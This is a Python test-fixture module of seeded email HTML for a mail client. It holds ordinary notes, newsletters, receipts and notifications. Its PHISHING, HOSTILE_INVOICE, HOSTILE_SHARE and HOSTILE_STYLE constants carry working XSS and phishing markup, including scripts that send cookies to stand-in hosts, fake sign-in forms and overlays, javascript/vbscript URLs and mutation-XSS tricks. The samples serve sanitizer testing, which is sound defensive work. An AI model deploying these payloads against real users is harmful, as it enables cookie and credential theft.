"""Words and markup for seeded mail: ordinary notes, newsletters with remote images, and the
hostile HTML a client's sanitizer must defuse.

Bodies are fragments; `envelope` wraps them the way Outlook does. Placeholders: `{me}` the
mailbox owner's first name, `{them}` the sender's first name, `{org}` the organization.
"""

REMOTE = "https://cdn.tailspintoys.com/email/2026"
PIXEL_HOST = "https://t.wingtiptoys.com/open"


def envelope(inner: str, style: str = "") -> str:
    """An HTML document shaped like one Outlook sends."""
    return ('<html><head>\r\n<meta http-equiv="Content-Type" content="text/html; charset=utf-8">'
            '<style type="text/css" style="display:none;"> P {margin-top:0;margin-bottom:0;} '
            f'{style}</style></head><body dir="ltr"><div class="elementToProof" style="font-family:'
            ' Aptos, Calibri, Helvetica, sans-serif; font-size: 12pt; color: rgb(0, 0, 0);">'
            f"{inner}</div></body></html>")


# Short notes from colleagues or friends: (key, subject, body, for work accounts?)
NOTES = (
    ("standup", "Notes from this morning's standup",
     "<p>Hi {me},</p><p>Quick recap: the <b>pricing page</b> ships Thursday, QA is still "
     "chasing two bugs, and we need a volunteer for the customer webinar.</p>"
     "<ul><li>Pricing page: on track</li><li>Mobile build: blocked on sign-in</li>"
     "<li>Webinar: looking for a host</li></ul><p>Thanks,<br>{them}</p>", True),
    ("offsite", "Offsite venue shortlist",
     "<p>Hi {me},</p><p>I narrowed the offsite venues to three. The lake house has the best "
     "rooms but no projector; the downtown loft is walkable from the office.</p>"
     "<p>Can you vote by Friday?</p><p>{them}</p>", True),
    ("customer", "Customer escalation: Relecloud",
     "<p>{me},</p><p>Relecloud's CIO called again about the data export. They need a date "
     "<u>today</u>. I said we'd come back by 3pm.</p><p>Can you join a quick call?</p>"
     "<p>{them}</p>", True),
    ("hiring", "Interview feedback for the senior designer role",
     "<p>Hi {me},</p><p>Please leave your feedback in the hiring tool before Wednesday. "
     "Two of the panel leaned yes, one no hire.</p><p>Best,<br>{them}</p>", True),
    ("expenses", "Expense report approved",
     "<p>Your expense report <b>EXP-20418</b> (Contoso Retail Summit) was approved and will "
     "be paid with the next payroll.</p><p>{them}<br>Finance</p>", True),
    ("roadmap", "Draft roadmap for next quarter",
     "<p>Hi {me},</p><p>Attached is the first cut of the roadmap. Section 3 is still rough; "
     "comments welcome in the doc.</p><p>{them}</p>", True),
    ("weekend", "This weekend?",
     "<p>Hey {me}!</p><p>Are we still on for the farmers market on Saturday? I can pick you "
     "up around 9.</p><p>{them}</p>", False),
    ("photos", "Photos from the hike",
     "<p>Hi {me},</p><p>Finally sorted the photos from the hike. The one at the summit came "
     "out great. Link in the album!</p><p>xx {them}</p>", False),
    ("recipe", "That lasagne recipe",
     "<p>{me}, here it is as promised:</p><ol><li>Brown the onions slowly</li>"
     "<li>Use fresh pasta sheets</li><li>Rest it 20 minutes before cutting</li></ol>"
     "<p>{them}</p>", False),
    ("bookclub", "Book club: next pick",
     "<p>Hi all,</p><p>Next month we're reading <i>The Overstory</i>. Meeting at my place, "
     "bring snacks!</p><p>{them}</p>", False),
)

BUDGET_ASK = ("<p>Hi {me},</p><p>Could you review the Q3 budget before Thursday's review? "
              "Travel is 12% over plan and I'd like your view on where we trim.</p>"
              "<p>Thanks,<br>{them}</p>")
BUDGET_REPLY = ("<p>Hi {them},</p><p>Looks reasonable. I'd trim the trade-show line first and "
                "keep customer visits as they are. Happy to walk through it.</p><p>{me}</p>")
BUDGET_FINAL = ("<p>Thanks {me}, updated version attached with the trade-show cut. "
                "I'll present this one on Thursday.</p><p>{them}</p>")
PLANS_ASK = ("<p>Hey {me},</p><p>Dinner on Friday for Marcus's birthday? Thinking the Thai "
             "place on 5th.</p><p>{them}</p>")
PLANS_REPLY = "<p>Count me in! 7pm works.</p><p>{me}</p>"

NEWSLETTER = (
    f'<table width="600" align="center" role="presentation"><tr><td><img src="{REMOTE}/hero-'
    'winter.jpg" width="600" height="240" alt="Winter collection"></td></tr><tr><td>'
    '<h1 style="font-family:Georgia">The winter collection is here</h1><p>Hand-painted '
    'wooden trains, puzzle boxes and our best-selling kite, back in stock.</p><p><a href="'
    'https://www.tailspintoys.com/winter?utm_source=email">Shop now</a></p>'
    f'<img src="{REMOTE}/products-row.png" width="600" alt="Products"></td></tr></table>'
    f'<img src="{PIXEL_HOST}?m=8f2c1&u={{me}}" width="1" height="1" alt="" '
    'style="display:block;border:0">')
ITINERARY = (
    '<img src="cid:logo@fabrikam.com" width="160" alt="Fabrikam Travel"><h2>Your trip to '
    'Seattle</h2><table border="1" cellpadding="6"><tr><th>Flight</th><th>Departs</th>'
    '<th>Seat</th></tr><tr><td>FT 214</td><td>08:05</td><td>14C</td></tr><tr><td>FT 219</td>'
    '<td>18:40</td><td>9A</td></tr></table><p>Your e-ticket is attached.</p>'
    '<img src="https://images.fabrikam.com/maps/sea-static.png" width="480" alt="Map">')
ORDER = (
    '<img src="cid:banner@northwindtraders.com" width="600" alt="Northwind Traders">'
    '<p>Hi {me}, thanks for your order <b>#NW-58213</b>.</p><table><tr><td>Chai (12 boxes)'
    '</td><td>$216.00</td></tr><tr><td>Aniseed syrup</td><td>$40.00</td></tr></table>'
    '<p>Track it here: <a href="https://track.northwindtraders.com/NW-58213">NW-58213</a></p>'
    '<img src="https://img.northwindtraders.com/badges/secure.png" width="90" alt="">')
STATEMENT = ("<p>Dear {me},</p><p>Your statement for the period ending last Friday is "
             "ready. The PDF is attached; the password is your date of birth.</p>"
             "<p>Woodgrove Bank will never ask for your password by email.</p>")

# Hostile markup, one trick per line, for the reader's sanitizer to defuse.
PHISHING = (
    '<script>document.location="https://litware-secure-login.net/steal?c="+document.cookie'
    '</script><p>Dear user,</p><p>Your mailbox will be <b>suspended</b> in 24 hours. '
    '<a href="javascript:alert(document.domain)">Verify your account</a> now.</p>'
    '<form action="https://litware-secure-login.net/collect" method="post"><input '
    'name="email" value="{me}"><input type="password" name="password"><button>Sign in'
    '</button></form><img src="x" onerror="fetch(\'https://litware-secure-login.net/p?\'+'
    'document.cookie)"><iframe src="https://litware-secure-login.net/frame" width="1" '
    'height="1"></iframe>')
HOSTILE_INVOICE = (
    '<meta http-equiv="refresh" content="0;url=https://adatum-invoices.net/pay"><base href='
    '"https://adatum-invoices.net/"><p>Hello {me},</p><p>Invoice <b>4471</b> is overdue. '
    '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">Open the invoice'
    '</a></p><svg onload="alert(1)"><circle r="4"></circle></svg><object data="https://'
    'adatum-invoices.net/x.swf"></object><embed src="https://adatum-invoices.net/x.swf">'
    '<a href="pay" onclick="steal()" onmouseover="steal()">Pay now</a><noscript><p title='
    '"</noscript><img src=x onerror=alert(1)>"></p></noscript>')
HOSTILE_SHARE = (
    '<div class="overlay" style="position:fixed;top:0;left:0;width:100%;height:100%;'
    'background:#fff;z-index:9999">Session expired. <a href="https://proseware-docs.net/login"'
    '>Sign in again</a></div><p>{them} shared <b>Q4 plan.docx</b> with you.</p><div style='
    '"background-image:url(\'javascript:alert(1)\');width:expression(alert(1))">Open</div>'
    '<a href="vbscript:msgbox(1)">Preview</a><img src="https://proseware-docs.net/track.gif'
    '?id={me}" width="1" height="1"><math><mtext><table><mglyph><style><img src=x onerror='
    'alert(1)></style></mglyph></table></mtext></math>')
HOSTILE_STYLE = ("body { display: none !important; } .overlay { opacity: 0.98; } "
                 "@import url('https://proseware-docs.net/x.css');")

PLAIN_LUNCH = "Hi {me},\r\n\r\nLunch at 12:30? The usual place.\r\n\r\n{them}"
PLAIN_REMINDER = ("{me},\r\n\r\nReminder: your password expires in 7 days. Change it at "
                  "https://aka.ms/sspr before then.\r\n\r\nIT Service Desk")

# Automated mail: (key, subject, body); senders rotate through NOTIFICATION_SENDERS.
NOTIFICATION_SENDERS = ("northwind", "lucerne", "alpine", "woodgrove")
NOTIFICATIONS = (
    ("shipped", "Your package has shipped",
     '<img src="https://img.northwindtraders.com/email/truck.png" width="64" alt=""><p>Good '
     "news, {me}: order #NW-58213 is on its way and should arrive Thursday.</p>"),
    ("digest", "Weekly digest: 12 new posts from authors you follow",
     '<h3>This week at Lucerne</h3><ul><li><a href="https://lucernepublishing.com/p/1">'
     "Writing for the web</a></li><li><a href=\"https://lucernepublishing.com/p/2\">"
     "Ten cover designs that work</a></li></ul>"),
    ("receipt", "Receipt for your payment",
     "<p>We received your payment of <b>$412.50</b>. Thank you for staying with us.</p>"),
    ("signin", "New sign-in to your account",
     "<p>We noticed a new sign-in from <b>Edge on Windows</b>. If this was you, there is "
     "nothing to do.</p>"),
    ("survey", "How did we do?",
     '<p>Rate your recent order:</p><p><a href="https://survey.northwindtraders.com/r?s=5">'
     "&#9733;&#9733;&#9733;&#9733;&#9733;</a></p>"),
    ("event", "Author talk next Thursday",
     '<img src="https://cdn.lucernepublishing.com/events/talk.jpg" width="500" alt="Talk">'
     "<p>Join us for an evening with three debut novelists.</p>"),
    ("points", "You have 1,250 points to spend",
     "<p>Your Alpine Ski House points expire at the end of the season.</p>"),
    ("paperless", "Go paperless and get $10",
     "<p>Switch to e-statements today.</p>"),
)
